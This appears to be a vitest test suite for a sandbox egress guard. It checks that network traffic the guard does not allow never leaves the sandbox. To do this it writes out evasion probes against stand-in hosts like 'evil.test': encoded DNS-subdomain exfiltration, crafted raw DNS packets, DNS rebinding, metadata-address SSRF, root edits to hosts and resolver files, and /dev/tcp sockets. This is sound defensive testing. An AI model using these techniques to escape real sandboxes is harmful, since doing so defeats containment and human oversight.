import type { Sandbox } from "@sandboxer/sdk";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { requires } from "../capabilities/requires.ts";
import { METADATA, OTHER, PRIVATE, WORLD } from "./lab/lab.ts";
import { type Bench, curl, openBench, probe, text } from "./lab/sandbox.ts";

const { describe } = await requires("linux-userns", "boxd", "egress-lab");

const PORTS = [1, 22, 53, 80, 443, 853, 3128, 8080, 8443, 65_535];

describe("what is not allowed does not get out", () => {
  let bench: Bench;
  let sandbox: Sandbox;
  beforeAll(async () => {
    bench = await openBench();
    await bench.lab.name("api.allowed.test", [WORLD]);
    await bench.lab.name("raw.allowed.test", [WORLD]);
    sandbox = await bench.sandbox({
      rules: [
        { host: "api.allowed.test" },
        { host: "raw.allowed.test", protocol: "tcp", ports: [7000, 443] },
      ],
    });
  });
  afterAll(() => bench.close());
  beforeEach(() => bench.lab.clear());

  /** Nothing of any kind came over the wire while this was done. */
  const silent = async (work: () => Promise<unknown>) => {
    await bench.lab.settle();
    await bench.lab.clear();
    const before = await bench.lab.look();
    await work();
    const after = await bench.lab.look();
    expect({ records: after.records, packets: after.packets - before.packets }).toEqual({
      records: [],
      packets: 0,
    });
  };

  /** A name may have been looked up, but nobody was connected to. */
  const unconnected = async (work: () => Promise<unknown>) => {
    await work();
    expect((await bench.lab.look()).records.filter(({ kind }) => kind !== "dns")).toEqual([]);
  };

  it("the wire is seen: what is allowed counts as packets (negative control)", async () => {
    const before = await bench.lab.look();
    const { stdout } = await curl(sandbox, "https://api.allowed.test/");
    expect(text(stdout)).toContain("hello");
    const after = await bench.lab.look();
    expect(after.packets).toBeGreaterThan(before.packets);
    expect(after.records.map(({ kind }) => kind)).toContain("request");
  });

  it.each([
    ["no rules", {}],
    ["an empty list of rules", { rules: [] }],
    ["no sets", { sets: ["none"] }],
    ["nothing but denials", { rules: [{ host: "evil.test", effect: "deny" as const }] }],
  ])("EG-1 with %s, nobody is reached", async (_, network) => {
    const closed = await bench.sandbox(network);
    await silent(async () => {
      for (const url of ["https://api.allowed.test/", "http://api.allowed.test:7000/", `https://${WORLD}/`]) {
        const { stdout } = await curl(closed, "--insecure", url);
        expect(text(stdout)).toMatch(/^(?:|.*policy_denied.*\n)$/);
      }
    });
  });

  it.each([
    ["network", null],
    ["network", []],
    ["network", {}],
    ["network", ""],
    ["rules", null],
    ["rules", "**"],
    ["rules", [null]],
    ["rules", [{}]],
    ["rules", [{ host: "" }]],
    ["rules", [{ host: "*" }]],
    ["rules", [{ host: "*.test" }]],
    ["sets", null],
    ["sets", ["everything"]],
    ["mode", null],
    ["mode", "off"],
  ])("EG-1 a policy whose %s is %j opens nothing: it is refused", async (field, value) => {
    const network = field === "network" ? value : { egress: "guarded", [field]: value };
    const refused = bench.client.sandboxes.create({ network } as never);
    await expect(refused).rejects.toMatchObject({ code: expect.stringMatching(/^invalid|^policy_denied/) });
  });

  it("EG-1 without a policy at all there is no way out", async () => {
    const none = await bench.client.sandboxes.create({});
    expect(none.info.spec.network).toEqual({ egress: "deny" });
    await silent(async () => {
      const to = [WORLD, "198.18.0.1", "198.19.0.1", "api.allowed.test"].map((host) => [host, 443]);
      for (const answer of await probe(none, { op: "tcp", to })) expect(answer.got ?? "").toBe("");
    });
  });

  it("EG-1 EG-2 addresses are refused at once, on every port, with and without proxy variables", async () => {
    await silent(async () => {
      const literals = [WORLD, "1.1.1.1", "198.19.77.77", "2606:4700::1111", "::ffff:1.1.1.1"];
      // The same in IPv6's many clothes: 6to4, NAT64, Teredo.
      const dressed = ["2002:5db8:d822::1", "64:ff9b::5db8:d822", "2001:0:5db8:d822::1", "fe80::1"];
      const to = [...literals, ...dressed].flatMap((host) => PORTS.map((port) => [host, port]));
      // Refused, and not left to wait until their patience is over.
      for (const answer of await probe(sandbox, { op: "tcp", to, wait: 20 })) {
        const isRefused = answer.error !== undefined && answer.error !== "TimeoutError";
        expect({ isRefused: isRefused || answer.closed, got: answer.got ?? "" }).toEqual({
          isRefused: true,
          got: "",
        });
      }
      const bypass = await sandbox.run(
        ["curl", "-sS", "--noproxy", "*", "--max-time", "3", `http://${WORLD}/`],
        {
          env: { NO_PROXY: "*", HTTP_PROXY: "" },
        },
      );
      expect(bypass.exit).not.toEqual({ kind: "exited", code: 0 });
    });
  });

  it.each(["user", "root"])("EG-3 other protocols do not get out, whoever tries: %s", async (user) => {
    await silent(async () => {
      const to = [
        WORLD,
        "8.8.8.8",
        "198.19.1.1",
        "2001:4860:4860::8888",
        "2002:5db8:d822::1",
        "64:ff9b::5db8:d822",
        "fe80::1",
        "ff02::1",
        "224.0.0.251",
        "255.255.255.255",
      ].flatMap((host) => [53, 123, 443, 3544, 9999].map((port) => [host, port]));
      for (const answer of await probe(sandbox, { op: "udp", to }, user)) expect(answer.error).toBeDefined();
      expect(Object.values(await probe(sandbox, { op: "kinds" }, user))).not.toContain("made");
    });
  });

  it("EG-4 no question leaves for a name that is not allowed, and of one that is, only its address", async () => {
    await silent(async () => {
      const lookups = ["c2VjcmV0.evil.test", "evil.test", "x.api.allowed.test"].map((name) => [
        "getent",
        "hosts",
        name,
      ]);
      for (const argv of lookups) await sandbox.run(argv);
      for (const url of ["https://c2VjcmV0.evil.test/", "https://x.api.allowed.test/"])
        await curl(sandbox, url);
      // Also not for the allowed one, before somebody connects to it.
      await sandbox.run(["getent", "hosts", "api.allowed.test"]);
    });
    await curl(sandbox, "https://api.allowed.test/");
    const asked = (await bench.lab.look()).records
      .filter(({ kind }) => kind === "dns")
      .map(({ what }) => what);
    // A resolver whose answer takes long asks again.
    expect([...new Set(asked)].sort()).toEqual(["A api.allowed.test", "AAAA api.allowed.test"]);
  });

  it("EG-4 asked directly, for any type, by any protocol, no resolver outside hears of it", async () => {
    await bench.lab.name("data.evil.test", [WORLD]);
    const types = { A: 1, NULL: 10, MX: 15, TXT: 16, AAAA: 28, SRV: 33, SVCB: 64, HTTPS: 65, ANY: 255 };
    const ask = (name: string, type: number) => [
      ...[7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0],
      ...name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]),
      ...[0, 0, type, 0, 1],
    ];
    const script = `
import json, socket
order = json.load(open("/home/user/questions.json"))
for server in order["servers"]:
    for question in order["questions"]:
        for port in (53, 853, 5353):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.settimeout(0.01)
                try: one.sendto(bytes(question), (server, port)); one.recv(4096)
                except OSError: pass
    for port in (53, 443, 853):
        with socket.socket() as one:
            one.settimeout(1)
            try:
                one.connect((server, port))
                one.sendall(len(question).to_bytes(2, "big") + bytes(question)); one.recv(4096)
            except OSError: pass
print("done")`;
    const label = [4, ...Buffer.from("data"), 0xc0, 12];
    const odd = [
      // A label that points at itself, two questions in one, an answer that nobody asked for, an update.
      [7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...label, 0, 1, 0, 1],
      [7, 7, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 1).slice(12), ...label, 0, 16, 0, 1],
      [7, 7, 0x81, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 1).slice(12)],
      [7, 7, 0x29, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...ask("data.evil.test", 6).slice(12)],
      // One name as long as may be, and one that is longer.
      ask([...Array<string>(3).fill("a".repeat(61)), "a".repeat(56), "evil.test"].join("."), 1),
      ask([...Array<string>(4).fill("a".repeat(62)), "evil.test"].join("."), 1),
    ];
    const questions = odd.concat(
      ["data.evil.test", "api.allowed.test", `${"a".repeat(63)}.evil.test`].flatMap((name) =>
        Object.values(types).map((type) => ask(name, type)),
      ),
    );
    // The one inside too: it knows names and nobody to ask about them.
    const inside = text((await sandbox.run(["cat", "/etc/resolv.conf"])).stdout);
    const [, own = ""] = /nameserver (\S+)/.exec(inside) ?? [];
    const servers = [own, WORLD, "8.8.8.8", "1.1.1.1"];
    await sandbox.files.write("/home/user/questions.json", [
      new TextEncoder().encode(JSON.stringify({ servers, questions })),
    ]);
    await silent(async () => {
      const { stdout } = await sandbox.run(["python3", "-c", script], { timeoutMs: 100_000 });
      expect(text(stdout)).toBe("done\n");
      for (const url of ["https://dns.google/dns-query?dns=AAAB", `https://${WORLD}/dns-query?dns=AAAB`]) {
        await curl(sandbox, "--insecure", url);
      }
    });
  });

  it("EG-4 under a star a name is asked for when somebody connects, by its addresses alone", async () => {
    const starred = await bench.sandbox({ rules: [{ host: "*.star.test", protocol: "tcp", ports: [80] }] });
    await bench.lab.name("c2vjcmv0.star.test", [WORLD]);
    await silent(async () => {
      for (const name of [
        "c2VjcmV0.star.test",
        "a.b.star.test",
        "star.test",
        `${"x".repeat(64)}.star.test`,
      ]) {
        await starred.run(["getent", "hosts", name]);
      }
      for (const name of ["a.b.star.test", "star.test", `${"x".repeat(64)}.star.test`]) {
        await curl(starred, `http://${name}/`);
      }
    });
    expect(text((await curl(starred, "http://c2VjcmV0.star.test/")).stdout)).toContain("hello");
    const asked = (await bench.lab.look()).records.flatMap(({ kind, what }) =>
      kind === "dns" ? [what] : [],
    );
    expect([...new Set(asked)].sort()).toEqual(["A c2vjcmv0.star.test", "AAAA c2vjcmv0.star.test"]);
  });

  it("EG-4 under a star so many names are asked for within a minute, and no more", async () => {
    const host = "spelt.star.test";
    await bench.lab.name(host, [WORLD]);
    const tcp = { protocol: "tcp" as const, ports: [7000] };
    const starred = await bench.sandbox({
      rules: [
        { host: "*.star.test", ...tcp },
        { host, ...tcp },
      ],
    });
    const script = `
import socket
for number in range(200):
    try: socket.create_connection((f"n{number}.star.test", 7000), 20).close()
    except OSError: pass
with socket.create_connection(("${host}", 7000), 20) as one:
    one.sendall(b"in"); print(one.recv(2).decode())`;
    const { stdout } = await starred.run(["python3", "-c", script], { timeoutMs: 100_000 });
    expect(text(stdout), "one that a rule spells out").toBe("in\n");
    const { records } = await bench.lab.look();
    const asked = records.filter(({ what }) => /^A n\d+\.star\.test$/.test(what));
    expect(asked.length).toBeGreaterThanOrEqual(120);
    expect(asked.length).toBeLessThan(200);
    const reason = "more than 120 names that no rule spells out, within a minute";
    const reasons = async () => (await starred.networkCalls()).calls.map((call) => call.reason);
    await expect.poll(reasons, { timeout: 30_000 }).toContain(reason);
  });

  it("EG-5 each request is held to the networks that its own rules name, also after another was there", async () => {
    await bench.lab.name("lan.allowed.test", [PRIVATE]);
    const host = "lan.allowed.test";
    const named = { host, protocol: "http" as const, methods: ["GET"], cidrs: ["10.0.0.0/8"] };
    const unnamed = { host, protocol: "http" as const, methods: ["POST"] };
    const tricked = await bench.sandbox({ rules: [named, unnamed] });
    const codes = "-s -o /dev/null -w %{http_code}\\n".split(" ");
    const both = await curl(
      tricked,
      ...codes,
      `http://${host}/`,
      "--next",
      ...codes,
      "-d",
      "x",
      `http://${host}/`,
    );
    expect(text(both.stdout)).toBe("200\n403\n");
    const { records } = await bench.lab.look();
    expect(records.flatMap(({ kind, what }) => (kind === "request" ? [what] : []))).toEqual(["GET /"]);
  });

  it("EG-5 a name that leads inside a network leads nowhere, unless a rule names the network", async () => {
    const inside = {
      "metadata.evil.test": METADATA,
      "lan.evil.test": PRIVATE,
      "self.evil.test": "127.0.0.1",
    };
    for (const [name, address] of Object.entries(inside)) await bench.lab.name(name, [address]);
    const rule = (host: string, cidrs?: string[]) => ({
      host,
      protocol: "tcp" as const,
      ports: [80, 7000],
      ...(cidrs && { cidrs }),
    });
    const everywhere = ["10.0.0.0/8", "169.254.0.0/16", "127.0.0.0/8", "0.0.0.0/0"];
    const tricked = await bench.sandbox({ rules: Object.keys(inside).map((name) => rule(name)) });
    const named = await bench.sandbox({ rules: Object.keys(inside).map((name) => rule(name, everywhere)) });
    const reached = async (from: Sandbox) => {
      const codes: Record<string, boolean> = {};
      for (const name of Object.keys(inside)) {
        codes[name] =
          (await curl(from, `http://${name}/`)).exit.kind === "exited" &&
          text((await curl(from, `http://${name}/`)).stdout).includes("hello");
      }
      return codes;
    };
    expect(await reached(tricked)).toEqual({
      "metadata.evil.test": false,
      "lan.evil.test": false,
      "self.evil.test": false,
    });
    // The same addresses are there to be reached: with the network named, the private one is.
    expect(await reached(named)).toEqual({
      "metadata.evil.test": false,
      "lan.evil.test": true,
      "self.evil.test": false,
    });
    const { records } = await bench.lab.look();
    expect(records.filter(({ what }) => what.includes(METADATA))).toEqual([]);
  });

  it("EG-7 a name that changes its mind after it was judged is dialled as it was judged", async () => {
    await bench.lab.name("rebind.test", [WORLD], [PRIVATE]);
    await bench.lab.name("mixed.test", [WORLD, PRIVATE]);
    const rules = ["rebind.test", "mixed.test"].map((host) => ({
      host,
      protocol: "tcp" as const,
      ports: [80],
    }));
    const tricked = await bench.sandbox({ rules });
    expect(text((await curl(tricked, "http://rebind.test/")).stdout)).toContain("hello");
    expect((await curl(tricked, "http://rebind.test/")).exit).not.toEqual({ kind: "exited", code: 0 });
    expect((await curl(tricked, "http://mixed.test/")).exit).not.toEqual({ kind: "exited", code: 0 });
    const { records } = await bench.lab.look();
    expect(records.filter(({ kind, what }) => kind === "connection" && what.includes(PRIVATE))).toEqual([]);
  });

  it("EG-7 what the sandbox believes about a name changes nothing: the guard has the name, not the address", async () => {
    const believing = await bench.sandbox({ rules: [{ host: "api.allowed.test" }] });
    const host = "api.allowed.test";
    const reached = async (...more: string[]) =>
      text((await curl(believing, "-k", ...more, `https://${host}/`)).stdout);
    expect(await reached(), "control").toBe(`hello from ${host}\n`);
    const [fake = ""] = text((await believing.run(["getent", "ahostsv4", "evil.test"])).stdout).split(" ");
    expect(fake).toMatch(/^198\.19\./);
    await silent(async () => {
      expect(await reached("--resolve", `${host}:443:${OTHER}`)).toBe("");
      for (const address of [OTHER, fake]) {
        const edit = `cp /etc/hosts /tmp/hosts; echo ${address} ${host} >> /etc/hosts; getent ahostsv4 ${host}`;
        const edited = await believing.run(["sh", "-c", edit], { user: "root" });
        expect(text(edited.stdout), "control: it believes so").toContain(address);
        expect(await reached()).toMatch(/^(?:|.*policy_denied.*\n)$/);
        await believing.run(["sh", "-c", "cat /tmp/hosts > /etc/hosts"], { user: "root" });
      }
      const resolver = `echo nameserver ${WORLD} > /etc/resolv.conf; cat /etc/resolv.conf`;
      const edited = await believing.run(["sh", "-c", resolver], { user: "root" });
      expect(text(edited.stdout), "control: so it does").toContain(WORLD);
      expect(await reached("--connect-timeout", "5")).toBe("");
    });
  });

  it("EG-10 TLS for another name than the one asked for is not carried", async () => {
    await unconnected(async () => {
      const tries = [
        ["--connect-to", "evil.test:443:api.allowed.test:443", "https://evil.test/"],
        ["--connect-to", "1.2.3.4:443:api.allowed.test:443", "https://1.2.3.4/"],
      ];
      for (const args of tries) {
        const { exit } = await curl(sandbox, "--insecure", ...args);
        expect(exit).not.toEqual({ kind: "exited", code: 0 });
      }
    });
    await expect
      .poll(async () => (await sandbox.networkCalls()).calls.at(-1))
      .toMatchObject({ verdict: "failed", reason: "TLS is for another name" });
  });

  it("EG-9 what is no TLS is not carried on 443, unless the rule says tcp", async () => {
    await unconnected(async () => {
      const { stdout } = await curl(sandbox, "http://api.allowed.test:443/");
      expect(text(stdout)).toBe("");
    });
    const raw = await sandbox.run(
      ["sh", "-c", "exec 3<>/dev/tcp/raw.allowed.test/7000; echo hi >&3; head -1 <&3"],
      {},
    );
    const bash =
      raw.stdout.length > 0
        ? raw
        : await sandbox.run([
            "bash",
            "-c",
            "exec 3<>/dev/tcp/raw.allowed.test/7000; echo hi >&3; head -1 <&3",
          ]);
    expect(text(bash.stdout)).toBe("hi\n");
  });
});
